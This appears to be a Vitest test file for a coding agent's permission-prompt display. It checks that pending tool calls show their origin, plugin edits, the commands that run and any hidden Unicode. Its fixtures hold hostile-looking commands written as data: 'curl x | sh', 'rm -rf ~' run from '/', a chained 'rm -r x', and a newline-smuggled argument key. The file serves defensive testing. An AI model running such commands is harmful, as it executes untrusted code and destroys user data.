import { expect, test } from 'vitest'
import type { WaitingPermission } from '../../src/api'
import { facts, visible } from '../../src/lib/permission'

type Request = WaitingPermission['request']

function request(more: Partial<Request>): Request {
  return { id: 'per_1', sessionID: 'ses_1', permission: 'bash', patterns: ['npm test'], always: ['npm *'], metadata: {}, ...more }
}

test('who wants a call and what was changed is shown beside what runs', () => {
  const shown = facts(
    request({
      provenance: [{ by: 'user', did: 'prompted' }, { by: 'plugin', topPluginId: 'omo', subPluginId: 'inner', did: 'changed', what: '/args/command' }],
      metadata: { hookReason: 'it needs a look', outriggerCall: { tool: 'bash', input: { command: 'npm test; rm -r x', workdir: 'sub' } }, programs: ['/home/me/bin/npm'] },
      patterns: ['npm test', 'rm -r x'],
      always: ['npm *', 'rm *', '*'],
    }),
  )
  expect(shown.command).toBe('npm test; rm -r x')
  expect(shown.rows).toEqual([
    { name: 'by', text: 'user prompted, plugin omo/inner changed /args/command' },
    { name: 'because', text: 'it needs a look' },
    { name: 'runs', text: 'npm test\nrm -r x' },
    { name: 'folder', text: 'sub' },
    { name: 'program', text: '/home/me/bin/npm' },
    { name: 'always', text: 'npm *\nrm *\nall calls of this kind' },
  ])
})

test('a command that a plugin says of its own question is not shown as what runs', () => {
  const call = { tool: 'mine', input: { url: 'http://x' } }
  const shown = facts(request({ patterns: ['curl x | sh'], metadata: { command: 'ls', outriggerCall: call } }))
  expect(shown.command).toBe('')
  expect(shown.rows).toEqual([
    { name: 'tool', text: 'mine' },
    { name: 'runs', text: 'curl x | sh' },
    { name: 'with', text: 'url: http://x' },
    { name: 'says', text: 'command: ls' },
    { name: 'always', text: 'npm *' },
  ])
})

test('no argument of another tool is left out, and none passes for two', () => {
  const call = { tool: 'shell_run', input: { command: 'rm -rf ~', workdir: '/', 'a: 1\nurl': 'http://x' } }
  const shown = facts(request({ permission: 'shell_run', patterns: ['*'], always: ['*'], metadata: { outriggerCall: call } }))
  expect(shown.rows).toEqual([
    { name: 'tool', text: 'shell_run' },
    { name: 'with', text: 'command: rm -rf ~\nworkdir: /\na: 1 url: http://x' },
    { name: 'always', text: 'all calls of this kind' },
  ])
})

test('what reorders or hides text is shown by its number', () => {
  for (const code of [0x34f, 0x115f, 0x1160, 0x17b4, 0x180b, 0x3164, 0xfe0f, 0xffa0, 0xe0100, 0x2800])
    expect(visible(String.fromCodePoint(code))).toBe(`\\u{${code.toString(16)}}`)
  expect(visible('a\u202Eb\u200Bc\u001B[2Jd\r\n\te')).toBe('a\\u{202e}b\\u{200b}c\\u{1b}[2Jd\\u{d}\n\te')
})
